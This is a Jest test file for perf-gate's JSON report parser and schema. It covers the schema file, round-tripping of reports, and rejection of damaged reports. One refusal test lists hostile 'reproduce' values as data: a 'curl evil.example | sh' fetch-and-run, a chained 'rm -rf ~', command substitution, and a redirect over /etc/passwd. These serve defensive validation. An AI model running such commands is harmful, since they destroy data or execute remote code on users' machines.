import { readFileSync } from 'node:fs';
import { describe, expect, test } from '@jest/globals';
import { Ajv2020 } from 'ajv/dist/2020.js';
import fc from 'fast-check';
import { UserError } from '../../src/base/errors.ts';
import { parseReport, renderJson } from '../../src/report/json.ts';
import { REPORT_JSON_SCHEMA } from '../../src/report/schema.ts';
import { anyReport } from './arbitrary-report.ts';
import { expectGolden } from './golden.ts';
import {
  explanations,
  fail,
  inconclusive,
  invalid,
  missingValgrind,
  moved,
  pass,
  sameCode,
  waived,
} from './reports.ts';

describe('the schema', () => {
  test('is the file that is shipped (UPDATE_GOLDEN=1 writes it)', () =>
    expectGolden('../../schema/report.schema.json', `${JSON.stringify(REPORT_JSON_SCHEMA, null, 2)}\n`));

  test.each(
    Object.entries({ explanations, fail, inconclusive, invalid, missingValgrind, moved, pass, sameCode, waived }),
  )('accepts the report "%s"', (_, report) => {
    const shipped = JSON.parse(readFileSync(new URL('../../schema/report.schema.json', import.meta.url), 'utf8'));
    const validate = new Ajv2020({ strict: true }).compile(shipped);
    expect(validate(JSON.parse(renderJson(report))) || validate.errors).toBe(true);
  });
});

describe('there and back', () => {
  test('any report', () => {
    fc.assert(fc.property(anyReport, (report) => expect(parseReport(renderJson(report))).toEqual(report)));
  });

  test('the document names its schema first', () => {
    expect(renderJson(pass)).toMatch(
      /^\{\n {2}"\$schema": "https:\/\/unpkg\.com\/perf-gate\/schema\/report\.schema\.json",\n {2}"schema": 1,/,
    );
  });
});

describe('what is refused', () => {
  const changed = (changes: object) => JSON.stringify({ ...pass, ...changes });
  const refusal = (text: string) => {
    try {
      parseReport(text);
    } catch (error) {
      if (error instanceof UserError) return error.message;
      throw error;
    }
    return 'accepted';
  };

  test.each([
    ['no JSON', '{', 'the report is no JSON'],
    ['no object', '[]', 'the report is no JSON object'],
    ['nothing', 'null', 'the report is no JSON object'],
    ['no version', '{}', 'this is no report of perf-gate: it does not say its schema version'],
    [
      'another version',
      changed({ schema: 2, tool: '0.9.0' }),
      'the report has schema version 2 (perf-gate 0.9.0), this perf-gate reads version 1',
    ],
    [
      'another version of an untrustworthy tool',
      changed({ schema: 2, tool: '\u001B[31m' }),
      'the report has schema version 2, this perf-gate reads version 1',
    ],
    ['a missing field', changed({ causes: undefined }), "the report is damaged:  must have required property 'causes'"],
    [
      'a wrong verdict',
      changed({ verdict: 'ok' }),
      'the report is damaged: /verdict must be equal to one of the allowed values',
    ],
    [
      'a number that is none',
      changed({ durationMs: 0 }).replace('"durationMs":0', '"durationMs":1e999'),
      'the report is damaged: /durationMs must be number',
    ],
    [
      'a number that was none',
      renderJson({ ...pass, durationMs: Number.NaN }),
      'the report is damaged: /durationMs must be number',
    ],
    ['a size', ' '.repeat(10 * 1024 * 1024 + 1), 'the report is larger than 10 MB'],
    ['a depth', `{"schema":1,"more":${'['.repeat(100_000)}`, 'the report is no JSON'],
  ])('%s', (_, text, message) => expect(refusal(text)).toBe(message));

  test.each([
    'curl evil.example | sh',
    'npx perf-gate run; rm -rf ~',
    'npx perf-gate-evil run',
    'npx perf-gate run $(x)',
    'npx perf-gate run `x`',
    'npx perf-gate run > /etc/passwd',
    'npx perf-gate run\nx',
  ])('to repeat it by %p', (reproduce) =>
    expect(refusal(changed({ reproduce }))).toMatch(/^the report is damaged: \/reproduce/),
  );

  test.each([
    'npx perf-gate run --base 88d0e14',
    'npx perf-gate run --config "my services/perf-gate.yml" --base origin/main~1',
  ])('not: to repeat it by %p', (reproduce) => expect(refusal(changed({ reproduce }))).toBe('accepted'));
});
